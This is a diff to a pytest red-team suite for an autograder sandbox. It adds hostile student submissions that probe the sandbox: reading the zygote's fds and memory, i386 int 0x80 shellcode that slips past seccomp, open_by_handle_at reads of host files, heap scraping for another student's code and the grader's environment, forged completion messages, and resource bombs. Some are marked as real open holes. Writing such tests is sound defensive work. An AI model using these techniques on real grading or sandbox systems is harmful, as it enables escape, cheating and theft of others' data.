@@ -21,6 +21,7 @@ from dataclasses import dataclass
 import pytest
 
 from autograder.grade import grade_source
+from autograder.sandbox import Zygote
 
 GOOD_TRIPLE = "\ndef triple(x):\n    return 3 * x\n"
 GOOD_DOUBLE = "\ndef double(x):\n    return 2 * x\n"
@@ -40,6 +41,12 @@ class Case:
     detail: str = ""               # substring of the first failure's detail (the full message)
     wrapped: tuple | None = None   # (reason, scope) instead, when children run inside bubblewrap
     needs_bubblewrap: bool = False # the verdict relies on bubblewrap's limits (skipped without it)
+    xfail_wrapped: str | None = None    # a real hole only when children run inside bubblewrap
+    xfail_unwrapped: str | None = None  # a real hole only when children run without bubblewrap
+    max_seconds: float | None = None    # grading this submission must take at most this long
+    before: str = ""                    # a submission by another student ("alice"), graded just before
+    own_zygote: bool = False            # the attack may kill or hang the zygote: give it a private one
+    then: str = ""                      # an honest submission by another student ("bob"), graded just after: full marks
 
 
 SECRET_READS = "data = open({path!r}, 'rb').read()\nreturn 2 * x"
@@ -245,6 +252,290 @@ CASES = [
                 os.write(3, struct.pack("<I", len(body)) + body)
                 time.sleep(1)
         return 2 * x""", "timed out"),
+    # ==== red-team additions =======================================================================
+    # --- /proc inside the bubblewrap PID namespace, the zygote's fds and its control socket
+    Case("read-bwrap-init-environ", "open('/proc/1/environ', 'rb').read()\nreturn 2 * x", "PermissionError"),
+    Case("list-zygote-fds", "import os\nos.listdir(f'/proc/{{os.getppid()}}/fd')\nreturn 2 * x", "PermissionError"),
+    Case("open-zygote-socket-via-proc", "import os\nos.open(f'/proc/{{os.getppid()}}/fd/4', os.O_RDWR)\nreturn 2 * x",
+         "PermissionError"),
+    Case("write-zygote-mem", "import os\nopen(f'/proc/{{os.getppid()}}/mem', 'r+b').write(b'\\xcc')\nreturn 2 * x",
+         "PermissionError"),
+    Case("list-shared-tmp", "import os\nos.listdir('/tmp')\nreturn 2 * x", "PermissionError"),
+    Case("pidfd-getfd-zygote", """
+        import ctypes, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.syscall.restype = ctypes.c_long
+        pidfd = libc.syscall(434, os.getppid(), 0)            # pidfd_open: not in the seccomp list
+        if pidfd < 0:
+            raise OSError(ctypes.get_errno(), "pidfd_open failed")
+        for fd in range(16):
+            if libc.syscall(438, pidfd, fd, 0) >= 0:          # pidfd_getfd: the zygote's socket would be here
+                raise AssertionError(f"took the zygote's fd {fd}")
+        if libc.syscall(424, pidfd, 9, None, 0) == 0:         # pidfd_send_signal
+            raise AssertionError("signalled the zygote")
+        raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))""", "PermissionError"),
+    Case("only-stdio-and-channel-inherited", """
+        import os
+        fds = []
+        for fd in range(4096):
+            try:
+                os.fstat(fd)
+                fds.append(fd)
+            except OSError:
+                pass
+        assert fds == [0, 1, 2, 3], f"inherited {fds}"
+        raise RuntimeError("only stdin, stdout, stderr and the result channel")""", "RuntimeError"),
+    Case("raise-rlimits", "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
+         "return 2 * x", "ValueError"),
+    # --- processes that try to outlive the child
+    Case("sigstop-self", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn 2 * x", "timed out"),
+    Case("thread-outlives-call", """
+        import threading, time
+        threading.Thread(target=lambda: time.sleep(30), daemon=False).start()
+        return x + 1""", "values differ"),
+    Case("posix-spawn-setsid", """
+        import os, sys
+        os.posix_spawn(sys.executable, [sys.executable, "-c", "import time; time.sleep(30)"], {}, setsid=True)
+        return x + 1""", "values differ"),
+    Case("clone-new-namespaces-grandchild", """
+        import ctypes, os, platform, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.syscall.restype = ctypes.c_long
+        # clone(CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD): seccomp denies unshare() but not clone() with namespace flags
+        if libc.syscall({"x86_64": 56, "aarch64": 220}[platform.machine()], 0x10000000 | 0x20000000 | 17, 0, 0, 0, 0) == 0:
+            os.setsid()
+            for fd in (0, 1, 2, 3):
+                os.close(fd)
+            time.sleep(3)
+            os._exit(0)
+        return x + 1""", "values differ"),
+    Case("clone-new-namespaces-then-hang", """
+        import ctypes, os, platform, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.syscall.restype = ctypes.c_long
+        if libc.syscall({"x86_64": 56, "aarch64": 220}[platform.machine()], 0x10000000 | 0x20000000 | 17, 0, 0, 0, 0) == 0:
+            os.setsid()
+            time.sleep(3)
+            os._exit(0)
+        while True:
+            pass""", "timed out"),
+    # --- the zygote's clean-up of the working directory
+    Case("odd-files-in-workdir", """
+        import os
+        try:
+            os.mkfifo("pipe")
+            os.makedirs("a/b/c")
+            open("a/b/c/f", "w").write("x")
+            for path in ("a/b/c/f", "a/b/c", "a/b", "a", "."):
+                os.chmod(path, 0)
+        except OSError:
+            pass
+        return x + 1""", "values differ"),
+    Case("many-tiny-files-at-import", "return x + 1", "values differ", max_seconds=12, prelude=(
+        "import os, time\n_t = time.monotonic()\n_n = 0\nwhile time.monotonic() - _t < 3:  # ~350 000 empty files\n"
+        "    for _i in range(1000):\n        os.close(os.open(f'f{_n}', os.O_CREAT | os.O_WRONLY, 0o600))\n        _n += 1\n")),
+    # --- the seccomp filter's other doors (the network stays closed by the namespace and Landlock)
+    Case("ptrace-zygote-via-i386-abi", """
+        import ctypes, mmap, os, platform
+        if platform.machine() != "x86_64":
+            raise PermissionError(1, "Operation not permitted")
+        # ptrace(PTRACE_ATTACH, pid) through int 0x80 (the seccomp filter lets it through): the uid still stops it
+        code = bytes.fromhex("53" "b81a000000" "bb10000000" "89f9" "31d2" "31f6" "cd80" "5b" "c3")
+        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page.write(code)
+        result = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))(os.getppid())
+        if result < 0:
+            raise PermissionError(-result, os.strerror(-result))
+        raise AssertionError("attached to the zygote")""", "PermissionError"),
+    Case("udp-loopback-via-i386-socket", """
+        import ctypes, mmap, platform, socket
+        if platform.machine() != "x86_64":
+            raise OSError(101, "Network is unreachable")
+        code = bytes.fromhex("53" "b867010000" "bb02000000" "b902000000" "31d2" "cd80" "5b" "c3")  # socket(AF_INET, SOCK_DGRAM, 0)
+        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page.write(code)
+        fd = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
+        s = socket.socket(fileno=fd)
+        s.sendto(b"exfiltrated", ("127.0.0.1", {udp_port}))
+        return 2 * x""", "OSError", detail="unreachable"),
+
+    # ---- real holes (strict xfail: each fails today for the reason given) ----------------------------
+    Case("read-host-files-by-handle", """
+        import ctypes, errno, os, platform
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.syscall.restype = ctypes.c_long
+        class Handle(ctypes.Structure):
+            _fields_ = [("size", ctypes.c_uint32), ("type", ctypes.c_int32), ("data", ctypes.c_uint32 * 2)]
+        open_by_handle_at = {"x86_64": 304, "aarch64": 265}[platform.machine()]
+        mount_fd = os.open("/usr/lib", os.O_RDONLY | os.O_DIRECTORY)     # readable, on the host's root file system
+        handle = Handle(8, 1, (ctypes.c_uint32 * 2)(2, 0))                # ext4's root directory: inode 2, generation 0
+        root = libc.syscall(open_by_handle_at, mount_fd, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
+        if root < 0:
+            code = ctypes.get_errno()
+            raise (PermissionError if code in (errno.EPERM, errno.EACCES) else OSError)(code, os.strerror(code))
+        secret = open(os.open("{root}/solutions/basics.py".lstrip("/"), os.O_RDONLY, dir_fd=root)).read()
+        raise AssertionError("read the reference solutions: " + secret)""", "PermissionError",
+         xfail_wrapped="the child keeps CAP_DAC_READ_SEARCH and open_by_handle_at is allowed: a handle of the host's "
+                       "root directory, opened through a bind mount that Landlock allows, reads any file of the host"),
+    Case("previous-student-source-in-memory", r"""
+        import ctypes
+        libc = ctypes.CDLL(None)
+        libc.sbrk.restype = ctypes.c_void_p
+        libc.sbrk.argtypes = [ctypes.c_long]
+        class Info(ctypes.Structure):
+            _fields_ = [(n, ctypes.c_size_t) for n in "arena ordblks smblks hblks hblkhd usmblks fsmblks uordblks fordblks keepcost".split()]
+        libc.mallinfo2.restype = Info
+        top, size = libc.sbrk(0), libc.mallinfo2().arena
+        heap = ctypes.string_at(top - size, size)                 # the heap, as inherited from the zygote
+        marker = b"ALICE_PRIVATE_" + b"SOLUTION"
+        if marker in heap:
+            at = heap.find(marker)
+            raise AssertionError("another student's code: " + repr(heap[at - 20:at + 60]))
+        raise RuntimeError("no other student's code in memory")""", "RuntimeError",
+         before="import numpy as np\n# ALICE_PRIVATE_SOLUTION: my own approach\n" + "\n".join(f"_pad{i} = {i}" for i in range(60))
+                + GOOD_DOUBLE + GOOD_TRIPLE,
+         xfail="the zygote receives every job (the student's source) and forks the next child with the freed memory"),
+    Case("grader-environment-in-memory", r"""
+        import ctypes, os, re
+        libc = ctypes.CDLL(None)
+        libc.sbrk.restype = ctypes.c_void_p
+        libc.sbrk.argtypes = [ctypes.c_long]
+        class Info(ctypes.Structure):
+            _fields_ = [(n, ctypes.c_size_t) for n in "arena ordblks smblks hblks hblkhd usmblks fsmblks uordblks fordblks keepcost".split()]
+        libc.mallinfo2.restype = Info
+        top, size = libc.sbrk(0), libc.mallinfo2().arena
+        memory = ctypes.string_at(top - size, size)               # setenv() copies live on the heap
+        # argv and the environment the kernel put on the stack at exec, up to the end of the stack
+        start = address = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
+        probe = os.open("probe", os.O_RDWR | os.O_CREAT, 0o600)
+        while True:
+            chunk = 4096 - address % 4096
+            try:
+                os.write(probe, (ctypes.c_char * chunk).from_address(address))   # EFAULT past the end, not a crash
+            except OSError:
+                break
+            address += chunk
+        os.lseek(probe, 0, 0)
+        memory += os.read(probe, address - start)
+        leaked = sorted(set(re.findall(rb"AUTOGRADER_CANARY\w*=\S*", memory)))
+        if leaked:
+            raise AssertionError(f"the grader's environment: {leaked}")
+        raise RuntimeError("nothing of the grader's environment in memory")""", "RuntimeError",
+         xfail_unwrapped="os.environ.clear() leaves the grader's environment in the memory the zygote inherited "
+                         "(setenv copies on the heap, the exec-time strings on the stack)"),
+    Case("survivor-patched-os-kill", "return x + 1", "values differ", prelude=(
+        "import os, time\n"
+        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+        "        for fd in (0, 1, 2, 3):\n            os.close(fd)\n        time.sleep(3)\n    os._exit(0)\n"
+        "os.wait()\n"
+        "os.kill = lambda *a: None  # the harness's final kill(-1) is os.kill too; the child then reports done: no sweep\n"),
+         xfail="a child that reports 'done' is trusted to have killed its leftovers (os.kill is the student's to patch)"),
+    Case("survivor-fills-tmpfs-for-next-student", "return x + 1", "values differ", needs_bubblewrap=True, prelude=(
+        "import os, time\n"
+        "if os.fork() == 0:\n    os.setsid()\n    for fd in (0, 1, 2, 3):\n        os.close(fd)\n    held = []\n    try:\n"
+        "        for i in range(64):  # 4 MB files (the file-size limit) until the 256 MB tmpfs is full, all kept open\n"
+        "            held.append(os.open(f'hold{i}', os.O_CREAT | os.O_RDWR, 0o600))\n"
+        "            for _ in range(4):\n                os.write(held[-1], bytes(2**20))\n"
+        "    except OSError:\n        pass\n    time.sleep(2.5)  # rmtree unlinks them; the space stays taken while they are open\n"
+        "    os._exit(0)\n"
+        "time.sleep(1)\nos.kill = lambda *a: None\n"),
+         then="import numpy as np\ndef double(x):\n    with open('scratch.bin', 'wb') as f:  # an honest scratch file\n"
+              "        f.write(bytes(3 * 2**20))\n    return 2 * x\n" + GOOD_TRIPLE,
+         xfail="a process left behind by one student keeps the tmpfs full: the next student gets ENOSPC"),
+    Case("survivor-forged-done", """
+        import json, os, struct, time
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                for fd in (0, 1, 2, 3):
+                    os.close(fd)
+                time.sleep(3)
+            os._exit(0)
+        os.wait()
+        body = json.dumps({"event": "done", "blobs": 0}).encode()
+        os.write(3, struct.pack("<I", len(body)) + body)   # the grader then skips the sweep and the remaining tasks
+        os._exit(0)""", "exited early",
+         xfail="a forged 'done' message is believed: no uid sweep (the grandchild survives) and 'triple' is never run"),
+    Case("close-channel-then-sleep", "import os, time\nos.close(3)\ntime.sleep(5)\nreturn 2 * x", "exited early",
+         max_seconds=4, own_zygote=True,
+         xfail="after EOF on the channel the zygote's wait4() blocks until the child exits: no deadline (sleep(1e9) hangs "
+               "the worker for ever)"),
+    Case("close-channel-then-sigstop", """
+        import os, signal, time
+        parent = os.getpid()
+        if os.fork() == 0:   # only so that the test ends: without this helper the zygote waits for ever
+            for fd in (0, 1, 2, 3):
+                os.close(fd)
+            time.sleep(5)
+            os.kill(parent, signal.SIGCONT)
+            os._exit(0)
+        os.close(3)
+        os.kill(parent, signal.SIGSTOP)   # uses no CPU: the CPU limit never fires either
+        return 2 * x""", "exited early", max_seconds=4, own_zygote=True,
+         xfail="a stopped child is never killed once the channel is closed; the zygote's wait4() blocks"),
+    Case("deep-directory-tree", """
+        import os
+        if not os.path.exists("d"):
+            home = os.getcwd()
+            for _ in range(1200):   # deeper than the recursion limit of shutil.rmtree in the zygote
+                os.mkdir("d")
+                os.chdir("d")
+            os.chdir(home)
+        return x + 1""", "values differ", own_zygote=True,
+         xfail="RecursionError in the zygote's shutil.rmtree kills the zygote: EOFError here, BrokenPipeError for "
+               "every later submission of the worker"),
+    Case("sympy-float-exponent-bomb", """
+        import json, os, struct
+        node = {"$": "sympy", "tree": ["Float", "1e" + "9" * 390, 2000]}    # 400 characters: under every cap
+        body = json.dumps({"event": "result", "call": 0, "value": [node] * 30, "blobs": 0}).encode()   # 13 KB
+        os.write(3, struct.pack("<I", len(body)) + body)
+        return x + 1""", "could not be read", max_seconds=3,
+         xfail="~0.05 s of grader CPU per Float node to decode and as much again per repr; not time-boxed"),
+    Case("sympy-repr-bomb", """
+        import os, struct
+        def tree(depth):
+            return '["pi"]' if depth == 0 else '["Add",' + tree(depth - 1) + ',' + tree(depth - 1) + ']'
+        node = '{"$":"sympy","tree":' + tree(12) + '}'     # 8191 Adds: under the 20000-node cap of one expression
+        body = ('{"event":"result","call":0,"value":[' + ','.join([node] * 2) + '],"blobs":0}').encode()
+        os.write(3, struct.pack("<I", len(body)) + body)
+        return x + 1""", "could not be read", max_seconds=3,
+         xfail="each list item gets its own sympy node budget, and show() prints the whole value in the grader"),
+    Case("mutate-input-and-hide-it", "x *= 2\nreturn x", "changed its input",
+         prelude="import hashlib\n_md5 = hashlib.md5\nhashlib.sha1 = lambda data=b'': _md5(b'')\n",
+         xfail="the mutation check runs in the child, with the student's hashlib"),
+    Case("memory-across-forks", """
+        import os
+        ready_r, ready_w = os.pipe()
+        go_r, go_w = os.pipe()
+        for _ in range(2):
+            if os.fork() == 0:
+                os.close(go_w)
+                block = b"\\x01" * (120 * 2**20)   # 120 MB of touched pages in this process
+                os.write(ready_w, b"+")
+                os.read(go_r, 1)
+                os._exit(0)
+        got = b""
+        while len(got) < 2:
+            got += os.read(ready_r, 2)
+        mine = b"\\x01" * (120 * 2**20)
+        os.close(go_w)
+        raise RuntimeError("three processes held 120 MB each (360 MB) under a 300 MB limit")""", "MemoryError",
+         xfail="RLIMIT_AS is per process and RLIMIT_NPROC allows 8: a child may hold 8 times memory_mb"),
+    Case("seccomp-i386-abi", """
+        import ctypes, mmap, platform
+        if platform.machine() != "x86_64":
+            raise PermissionError(1, "Operation not permitted")
+        # socket(AF_INET, SOCK_STREAM, 0) through int 0x80: the filter allows every syscall of another architecture
+        code = bytes.fromhex("53" "b867010000" "bb02000000" "b901000000" "31d2" "cd80" "5b" "c3")
+        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page.write(code)
+        fd = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
+        if fd < 0:
+            raise PermissionError(-fd, "Operation not permitted")
+        import socket
+        socket.socket(fileno=fd).connect(("127.0.0.1", {tcp_port}))   # Landlock refuses the connect itself
+        return 2 * x""", "PermissionError", detail="not permitted",
+         xfail="the seccomp program returns ALLOW for any other architecture, so i386 syscalls skip the denylist"),
 ]
 
 
@@ -340,18 +631,45 @@ def _params():
 
 # ---------------------------------------------------------------------------- the test
 
+@pytest.fixture
+def case_zygote(request, zygote):
+    """The session's zygote, or a private one for attacks that may kill or hang it."""
+    case = request.node.callspec.params["case"]
+    if not case.own_zygote:
+        yield zygote
+        return
+    private = Zygote().start()
+    try:
+        yield private
+    finally:
+        private.close()
+
+
 @pytest.mark.parametrize("case", _params())
-def test_attack(case, tiny, zygote, arena):
-    course, _ = tiny
+def test_attack(case, tiny, case_zygote, arena, request):
+    zygote = case_zygote
+    course, oracle = tiny
     tmp, tcp, udp = arena
     if case.needs_bubblewrap and not zygote.caps.wrapped:
         pytest.skip("this verdict needs bubblewrap's size-limited /tmp, which this machine lacks")
+    for hole, applies in ((case.xfail_wrapped, zygote.caps.wrapped), (case.xfail_unwrapped, not zygote.caps.wrapped)):
+        if hole and applies:
+            request.applymarker(pytest.mark.xfail(strict=True, reason=hole))
     reason, scope = case.wrapped if case.wrapped and zygote.caps.wrapped else (case.reason, case.scope)
     before = _snapshot(tmp, course.root)
     solutions = (course.root / "solutions" / "basics.py").read_text()
     source = _source(case, tmp=tmp, root=course.root, tcp_port=tcp.getsockname()[1], udp_port=udp.getsockname()[1])
+    if case.before:
+        grade_source(course, "basics", case.before, "basics.py", "alice", zygote, oracle)
 
+    started = time.monotonic()
     results = _grade(tiny, zygote, source)
+    elapsed = time.monotonic() - started
+    if case.max_seconds is not None:
+        assert elapsed <= case.max_seconds, f"grading took {elapsed:.1f} s (at most {case.max_seconds:g} s expected)"
+    if case.then:
+        honest = {r.id: r for r in grade_source(course, "basics", case.then, "basics.py", "bob", zygote, oracle)}
+        assert all(r.score == r.max_score for r in honest.values()), {k: _reason(r) for k, r in honest.items()}
 
     double, triple = results["double"], results["triple"]
     if scope == "import":
